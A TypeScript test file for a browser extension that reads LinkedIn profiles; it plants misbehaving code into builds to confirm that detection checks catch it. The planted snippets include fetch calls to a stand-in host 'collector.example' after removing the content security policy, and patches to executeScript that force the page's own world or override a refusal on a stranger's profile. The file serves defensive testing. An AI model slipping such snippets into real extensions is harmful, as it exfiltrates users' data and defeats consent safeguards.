import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { onboard, readOnClick, stored } from './harness/beckon.ts';
import { launchChromium } from './harness/chromium.ts';
import { type Driver, pollUntil } from './harness/driver.ts';
import { launchFirefox } from './harness/firefox.ts';
import { type Plant, plant } from './harness/plant.ts';
import { ADDRESS, sampleSite } from './harness/sample-site.ts';
import { prepareSpy, spied, startSpy } from './harness/spy.ts';

/** The script that a page of the build starts with. */
const scriptOf = (build: string, page: string): string =>
  /src="\/([^"]+\.js)"/.exec(readFileSync(join(build, page), 'utf8'))?.[1] ?? page;

/** Builds that break a promise must be noticed by the very checks that guard it. */
describe.each([
  ['chromium', launchChromium, '.output/chrome-mv3'],
  ['firefox', launchFirefox, '.output/firefox-mv3'],
] as const)('a planted build in %s', (name, launch, build) => {
  let driver: Driver | null = null;
  afterEach(() => driver?.close());

  const noticed = async (planted: Plant, mayLeak = false): Promise<readonly string[]> => {
    driver = await launch({ build: plant(build, planted), site: sampleSite, mayLeak });
    await onboard(driver);
    const observer = await driver.openExtension('dashboard.html#/data');
    const page = await driver.open(ADDRESS.profile, prepareSpy);
    await startSpy(page);
    await readOnClick(driver, observer, page);
    return spied(page);
  };

  const READER = 'reader-linkedin.js';
  const MISDEEDS: readonly (readonly [what: string, code: string, noticed: string])[] = [
    ['posts a message', "window.postMessage('beckon', '*')", 'event message'],
    [
      'sets an attribute',
      "document.documentElement.setAttribute('data-beckon', '1')",
      'mutation attributes data-beckon',
    ],
    ['adds a node', "document.body.append(document.createElement('beckon-panel'))", 'mutation childList  on BODY'],
    ['fires an event', "document.dispatchEvent(new Event('wxt:locationchange'))", 'event wxt:locationchange'],
    [
      'clicks',
      "document.querySelector('a').addEventListener('click', (e) => e.preventDefault());document.querySelector('a').click()",
      'event click on A',
    ],
    [
      'types',
      "document.querySelector('input').dispatchEvent(new KeyboardEvent('keydown', { key: 'H', bubbles: true }))",
      'event keydown on INPUT',
    ],
    ['fills in a field', "document.querySelector('input').value = 'Hello'", 'fields was'],
    ['moves the focus', "document.querySelector('input').focus()", 'focused was'],
    ['stores something', "sessionStorage.setItem('beckon', '1')", 'stored was'],
    ['sets a cookie', "document.cookie = 'beckon=1'", 'cookies was'],
    ['changes the address', "history.replaceState(null, '', '#beckon')", 'address was'],
    ['scrolls', 'const room = document.scrollingElement; room.scrollTop = 40', 'scroll was'],
    ['leaves a mark on the timeline', "performance.mark('beckon')", 'performance mark beckon'],
  ];

  it('that touches the page in any way is noticed, each by what it did', async () => {
    const code = MISDEEDS.map(([, c]) => `try{(()=>{${c}})()}catch(e){console.error(e)}`).join(';');
    const seen = (await noticed({ file: READER, code })).join('\n');
    for (const [what, , trace] of MISDEEDS) expect(seen, what).toContain(trace);
  });

  it('that reads in the page’s own world is noticed', async () => {
    const inMain = `const s=(globalThis.browser??chrome).scripting,x=s.executeScript.bind(s);s.executeScript=(o)=>x({...o,world:'MAIN'})`;
    const seen = await noticed({ file: 'background.js', code: inMain });
    expect(seen).toContain('read textContent');
    expect(seen.join()).toContain('global __beckonContext');
  });

  it('that takes a stranger’s profile for one’s own is noticed', async () => {
    const blind = `{const s=(globalThis.browser??chrome).scripting,x=s.executeScript.bind(s);s.executeScript=async(o)=>{const r=await x(o);for(const f of r)if(f.result?.refusal)Object.assign(f.result,{refusal:null,own:'yes',observations:[{kind:'profile',profile:{name:'S'},coverage:{}}]});return r}}`;
    driver = await launch({ build: plant(build, { file: 'background.js', code: blind }), site: sampleSite });
    await onboard(driver);
    const observer = await driver.openExtension('dashboard.html#/data');
    expect((await stored(observer)).sightings).toBe(0);
    await driver.clickToolbar(await driver.open(ADDRESS.stranger));
    await pollUntil('the reading', async () => (await stored(observer)).sightings > 0);
  });

  it('that fetches once its policy is taken away is noticed', async () => {
    const manifest: Plant['manifest'] = (m) => {
      delete m.content_security_policy;
    };
    await noticed({ file: 'background.js', code: "fetch('https://collector.example/?profile')", manifest }, true);
    await pollUntil('the request', async () => driver?.leaks.some((l) => l.includes('collector.example')));
  });

  // Where no test looks at requests itself, the end of the browser does. Files of the worker and of the hidden page, too.
  it.each(['derive-worker.js', ...(name === 'chromium' ? ['offscreen.html'] : [])])(
    'that fetches in %s fails any test at its end',
    async (file) => {
      const script = file.endsWith('.html') ? scriptOf(build, file) : file;
      const plantedBuild = plant(build, {
        file: script,
        code: "fetch('https://collector.example/?worker').catch(()=>undefined)",
        manifest: (m) => {
          delete m.content_security_policy;
        },
      });
      const started = await launch({ build: plantedBuild, site: sampleSite });
      await onboard(started);
      const data = await started.openExtension('dashboard.html#/data');
      await readOnClick(started, data, await started.open(ADDRESS.profile));
      await pollUntil('the request', async () => started.leaks.some((l) => l.includes('collector.example')));
      await expect(started.close()).rejects.toThrow('collector.example');
    },
  );
});
